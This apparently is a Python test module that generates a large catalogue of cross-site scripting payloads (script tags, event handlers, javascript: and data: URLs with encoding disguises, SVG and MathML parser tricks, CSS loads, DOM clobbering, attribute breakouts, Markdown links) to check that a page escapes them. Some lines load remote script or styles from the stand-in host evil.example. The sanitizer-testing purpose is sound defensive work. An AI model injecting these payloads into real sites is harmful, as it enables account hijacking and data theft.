"""Hostile content, made by rule: what a stolen account may type, by the context that it wants to break out of.

Every payload is dangerous where it is shown by a page that escapes nothing (`naive`); so none of them is idle, and the
tests can say which of them a page that is well made has to disarm.  The script that they run calls `alert`.
"""
# ruff: noqa: E501 — a payload is one line

import html
import itertools
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from kawat.source.markdown import commonmark

__all__ = ["PAYLOADS", "Payload", "naive"]

RUN = "alert(1)"


@dataclass(frozen=True, slots=True)
class Payload:
    """Something typed.

    Attributes:
        family: by which idea it works.
        context: where it is dangerous, a key of `_CONTEXTS`.
    """

    family: str
    context: str
    text: str


def naive(payload: Payload) -> str:
    """Return the HTML of a page that shows a payload without any care."""
    return _CONTEXTS[payload.context](payload.text)


def _unescaped(text: str) -> str:
    """As programs that take out of a feed what was escaped for it, and once more."""
    while (plain := html.unescape(text)) != text:
        text = plain
    return text


_CONTEXTS: dict[str, Callable[[str], str]] = {
    "html": lambda text: f"{text}<p>x</p>",
    "double quotes": lambda text: f'<p title="{text}">x</p>',
    "single quotes": lambda text: f"<p title='{text}'>x</p>",
    "no quotes": lambda text: f"<p title={text}>x</p>",
    "title": lambda text: f"<title>{text}</title>",
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "comment": lambda text: f"<!-- {text} -->",
    "style": lambda text: f"<p>x</p><style>p::after {{ content: '{text}' }}</style>",
    "JSON-LD": lambda text: f'<script type="application/ld+json">{{"headline": "{text}"}}</script>',
    "address": lambda text: f'<a href="{text}">x</a>',
    "XML": lambda text: f"<p>x<![CDATA[{text}]]></p>",
    "Markdown": commonmark,
    "escaped once more": _unescaped,
    "compatibility forms": lambda text: unicodedata.normalize("NFKC", text),
}

_CORE = (
    f"<script>{RUN}</script>",
    f"<img alt=x src=x.png onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x.png onerror={RUN}></video>",
    f"<object data=javascript:{RUN}></object>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<script src=//evil.example/a.js></script>",
)
"""Ways of a page's HTML to do harm, each in its shortest form."""

_EVENTS = (
    "abort afterprint animationend animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste "
    "beforeprint beforetoggle beforeunload blur cancel canplay change click close contextmenu copy cut dblclick drag "
    "dragend dragenter dragover drop durationchange emptied ended error focus focusin formdata gotpointercapture "
    "hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown "
    "mouseenter mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste play playing "
    "pointerdown pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange reset resize "
    "scroll scrollend search seeked select selectionchange selectstart slotchange stalled storage submit toggle "
    "touchend touchstart transitionend transitionrun unload volumechange waiting wheel"
).split()
_BEARERS = (
    "<img alt=x src=x.png {}>",
    "<svg {}>",
    "<b {}>x</b>",
    "<audio {}></audio>",
    "<details open {}>x</details>",
    "<x {}>x",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>',
    '<img alt=x src="{}">',
    '<video poster="{}"></video>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<map><area href="{}"></map>',
    '<link rel=stylesheet href="{}">',
    '<frameset><frame src="{}"></frameset>',
    '<blockquote cite="{}">x</blockquote>',
)
_SCHEMES = (
    f"javascript:{RUN}",
    f"javascript://kawat.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:{RUN}",
    "//evil.example/x",
    "ftp://evil.example/x",
    "file:///etc/passwd",
    "blob:https://kawat.example/1",
)
_DISGUISES: dict[str, Callable[[str], str]] = {
    "plain": str,
    "capitals": lambda url: url.swapcase() if "(" not in url else url.replace("javascript", "jAvAsCrIpT"),
    "a tab": lambda url: url[:4] + "\t" + url[4:] if ":" in url[4:] else url,
    "a reference to a tab": lambda url: url[:4] + "&Tab;" + url[4:] if ":" in url[4:] else url,
    "a reference to a line end": lambda url: url[:3] + "&NewLine;" + url[3:] if ":" in url[3:] else url,
    "blanks before": lambda url: "  " + url,
    "control characters before": lambda url: "&#1;&#31;" + url,
    "decimal": lambda url: "".join(f"&#{ord(one)};" for one in url),
    "hexadecimal, without semicolons": lambda url: "".join(f"&#x{ord(one):07x}" for one in url),
    "a named colon": lambda url: url.replace(":", "&colon;", 1),
    "named strokes": lambda url: url.replace("/", "&sol;"),
    "turned strokes": lambda url: url.replace("//", "\\\\") if url.startswith("//") else url,
}
_SVG = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><script xlink:href=data:,{RUN}></script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><a><set attributeName=href to=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
    "<svg><style>@import url(//evil.example/a.css);</style></svg>",
    f"<svg><image href=x.png onerror={RUN} /></svg>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><feImage href=//evil.example/x.png /></svg>",
    f"<svg><handler type=text/javascript>{RUN}</handler></svg>",
    f"<svg><discard onbegin={RUN} />",
    f"<svg><title><script>{RUN}</script></title></svg>",
    f"<svg><desc><img alt=x src=x.png onerror={RUN}></desc></svg>",
    f"<math><mtext><img alt=x src=x.png onerror={RUN}></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
)
_DECLARATIONS = (
    "background: url(//evil.example/x.png)",
    f"background: url(javascript:{RUN})",
    f"width: expression({RUN})",
    "-moz-binding: url(//evil.example/x.xml#x)",
    "behavior: url(//evil.example/x.htc)",
    "position: fixed; inset: 0; z-index: 9999; background: white",
    "list-style-image: url('//evil.example/x.png')",
    "content: url(//evil.example/x.png)",
    "cursor: url(//evil.example/x.cur), auto",
    "b\\61 ckground: u\\72 l(//evil.example/x.png)",
    "/**/background/**/: url(/**///evil.example/x.png)",
    "animation: x 1s; --x: url(//evil.example/x.png)",
    "mask: url(//evil.example/x.svg#x)",
    "filter: url(//evil.example/x.svg#x)",
    "border-image: url(//evil.example/x.png) 1",
    "font-family: x; src: url(//evil.example/x.woff2)",
)
_STYLED = (
    '<p style="{}">x</p>',
    "<b style='{}'>x</b>",
    '<img alt=x src=x.png style="{}">',
    "<style>p {{ {} }}</style>",
    "<style>@media all {{ * {{ {} }} }}</style>",
    '<table style="{}"><tr><td>x</table>',
    '<svg style="{}"></svg>',
    '<a href="https://kawat.example/" style="{}">x</a>',
)
_OBSCURED = (
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\t>{RUN}</script\t>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script/x>",
    f"<script x='>'>{RUN}</script>",
    f"<script>{RUN}",
    f"<script>/*</p>*/{RUN}</script>",
    f"<img/alt='x'/src='x.png'/onerror={RUN}>",
    f"<img alt=x src=x.png\fonerror={RUN}>",
    f"<img alt=x src=x.png\nonerror\n=\n{RUN}>",
    f"<img alt=x src='x.png'onerror={RUN}>",
    f'<img alt=x src="x.png"onerror="{RUN}">',
    f"<img alt=x src=x.png onerror=`{RUN}`>",
    "<img alt=x src=x.png onerror=&#97;lert(1)>",
    "<img alt=x src=x.png onerror='al\\u0065rt(1)'>",
    f"<img alt=x src=x.png x='>' onerror={RUN}>",
    f"<img alt=x src=x.png onerror={RUN} <p>",
    f"<img alt=x src=x.png onerror={RUN}//",
    f"<image src=x.png onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg onload={RUN}//",
    f"</p><svg onload={RUN}>",
    f"<!--><img alt=x src=x.png onerror={RUN}>-->",
    f"<!---><img alt=x src=x.png onerror={RUN}>-->",
    f"<!--x--!><img alt=x src=x.png onerror={RUN}>",
    f"<![x]><img alt=x src=x.png onerror={RUN}>",
    f"<?x ><img alt=x src=x.png onerror={RUN}>",
    f"</x ><img alt=x src=x.png onerror={RUN}>",
    f"<!doctype x><img alt=x src=x.png onerror={RUN}>",
    f"<noscript><p title='</noscript><img alt=x src=x.png onerror={RUN}>'></noscript>",
    f"<noembed><p title='</noembed><img alt=x src=x.png onerror={RUN}>'></noembed>",
    f"<noframes><p title='</noframes><img alt=x src=x.png onerror={RUN}>'></noframes>",
    f"<xmp><p title='</xmp><img alt=x src=x.png onerror={RUN}>'></xmp>",
    f"<iframe><p title='</iframe><img alt=x src=x.png onerror={RUN}>'></iframe>",
    f"<style><p title='</style><img alt=x src=x.png onerror={RUN}>'></style>",
    f"<title><p title='</title><img alt=x src=x.png onerror={RUN}>'></title>",
    f"<textarea><p title='</textarea><img alt=x src=x.png onerror={RUN}>'></textarea>",
    f"<template><img alt=x src=x.png onerror={RUN}></template>",
    f"<template shadowrootmode=open><img alt=x src=x.png onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<select><option><img alt=x src=x.png onerror={RUN}></select>",
    f"<table><td><form action=javascript:{RUN}></table>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x.png onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img alt=x onerror={RUN} src=x.png>'>",
    f"<svg></p><style><a id='</style><img alt=x src=x.png onerror={RUN}>'>",
    f"<math><annotation-xml encoding='text/html'><style><img alt=x src=x.png onerror={RUN}></style></annotation-xml></math>",
    f"<svg><style><img alt=x src=x.png onerror={RUN}></style></svg>",
    f"<p><table><script>{RUN}</script></table>",
    f"<body onload={RUN}>",
    f"<html onmouseover={RUN}>",
    f"<frameset onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<b tabindex=0 autofocus onfocus={RUN}>x</b>",
    f"<isindex type=image src=x.png onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<video><source onerror={RUN}></video>",
    f"<track default oncuechange={RUN}>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<fencedframe src=javascript:{RUN}></fencedframe>",
    f"<applet code=javascript:{RUN}></applet>",
    "<meta name=referrer content=unsafe-url>",
    "<meta http-equiv=set-cookie content=x=1>",
    f"<img alt=x src=x.png ONERROR={RUN}>",
    "<a href=https://kawat.example/ ping=//evil.example/>x</a>",
    "<img alt=x srcset='//evil.example/x.png 1x' src=x.png>",
    "<picture><source srcset=//evil.example/x.png><img alt=x src=x.png></picture>",
    "<img lowsrc=x.png dynsrc=x.png longdesc=//evil.example/>",
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png><tr><td>x</table>",
    "<input type=image src=//evil.example/x.png>",
    "<audio src=//evil.example/x.mp3></audio>",
    "<embed type=image/svg+xml src=//evil.example/x.svg>",
    "<bgsound src=//evil.example/x.mid>",
    "<portal src=//evil.example/></portal>",
)
_GLOBALS = (
    "attributes body children cookie currentScript documentElement forms getElementById head innerHTML location "
    "nodeName parentNode querySelector results search-field textContent"
).split()
_CLOBBERING = (
    "<a id={0}>x</a>",
    "<img alt=x name={0} src=x.png>",
    "<form name={0}><input name=x></form>",
    "<form><input name={0}></form>",
    "<object id={0}></object>",
    "<b id={0}>x</b>",
)
_BREAKOUTS = {
    "double quotes": '">{}<p title="',
    "single quotes": "'>{}<p title='",
    "no quotes": "x>{}",
    "title": "</title>{}",
    "textarea": "</textarea>{}",
    "comment": "-->{}<!--",
    "style": "'}}</style>{}",
    "JSON-LD": '"}}</script>{}',
    "address": '">{}',
    "XML": "]]>{}",
}
_HANDLERS = {
    "double quotes": '" {}={} x="',
    "single quotes": "' {}={} x='",
    "no quotes": "x {}={}",
    "address": '#" {}={} x="',
}
_NESTED = (
    "{}",
    "> {}",
    "- {}",
    "1. x\n\n   {}",
    "- > - {}",
    "> 1. > {}",
    "# {}",
    "x\n: {}",
    "**{}**",
    "~~*{}*~~",
    "| a |\n|---|\n| {} |",
    "x[^1]\n\n[^1]: {}",
    "[{}](https://kawat.example/)",
    "![x](x.png)\n{}",
    "> [!NOTE]\n> {}",
    "<div>\n\n{}\n\n</div>",
    "<table><tr><td>\n\n{}\n\n</td></tr></table>",
    "`a` {} `b`",
    "```\nx\n```\n{}",
    "x {{#t .c}}\n\n{}",
    "x  \n{}",
    "\\\\{}",
)
_LINKED = (
    "[x]({})",
    "[x](<{}>)",
    "[x]({} 'x')",
    "[x][1]\n\n[1]: {}",
    "[1]\n\n[1]: <{}> 'x'",
    "![x]({})",
    "[![x]({})](https://kawat.example/)",
    "<{}>",
    "- > [x]({})",
    "| a |\n|---|\n| [x]({}) |",
    "x[^1]\n\n[^1]: [x]({})",
    "# [x]({})",
)
_LINKABLE = (
    f"javascript:{RUN}",
    "JaVaScRiPt:alert`1`",
    f"javascript&colon;{RUN}",
    f"java&#115;cript:{RUN}",
    f"&#x6a;avascript:{RUN}",
    f"javascript://x/%0a{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "ftp://evil.example/x",
)
_ESCAPES: tuple[Callable[[str], str], ...] = (
    lambda text: html.escape(text),
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3E;"),
    lambda text: text.replace("<", "&#0000060").replace(">", "&GT;"),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
)


def _typed() -> Iterator[Payload]:
    for text in _CORE:
        yield Payload("elements", "html", text)
    for event, bearer in itertools.product(_EVENTS, _BEARERS):
        yield Payload("events", "html", bearer.format(f"on{event}={RUN}"))
    for url, (disguise, disguised), carrier in itertools.product(_SCHEMES, _DISGUISES.items(), _CARRIERS):
        if disguised(url) != url or disguise == "plain":
            yield Payload("schemes", "html", carrier.format(disguised(url)))
    for text in _SVG:
        yield Payload("SVG", "html", text)
    for declared, styled in itertools.product(_DECLARATIONS, _STYLED):
        yield Payload("CSS", "html", styled.format(declared))
    for text in _OBSCURED:
        yield Payload("obscured", "html", text)
    for name, clobbering in itertools.product(_GLOBALS, _CLOBBERING):
        yield Payload("clobbering", "html", clobbering.format(name))
    for (context, breakout), text in itertools.product(_BREAKOUTS.items(), _CORE):
        yield Payload("breakouts", context, breakout.format(text))
    for (context, handler), event in itertools.product(_HANDLERS.items(), ("onclick", "onfocus", "onmouseover")):
        yield Payload("breakouts", context, handler.format(event, RUN))
    for nested, text in itertools.product(_NESTED, _CORE):
        yield Payload("nested Markdown", "Markdown", nested.format(text))
    for linked, url in itertools.product(_LINKED, _LINKABLE):
        if linked == "<{}>" and not re.match(r"\w+:", url):
            continue
        yield Payload("Markdown links", "Markdown", linked.format(url))
    for escaped, text in itertools.product(_ESCAPES, _CORE):
        yield Payload("escaped", "escaped once more", escaped(text))
    wide = {ord(one): chr(ord(one) + 0xFEE0) for one in "<>=\"'()/:"} | {ord("<"): "\ufe64", ord(">"): "\ufe65"}
    for text in _CORE:
        yield Payload("compatibility forms", "compatibility forms", text.translate(wide))
        yield Payload("compatibility forms", "compatibility forms", text.replace("<", "\uff1c").replace(">", "\uff1e"))


PAYLOADS: tuple[Payload, ...] = tuple({one.text: one for one in _typed()}.values())
"""All of them, each once."""
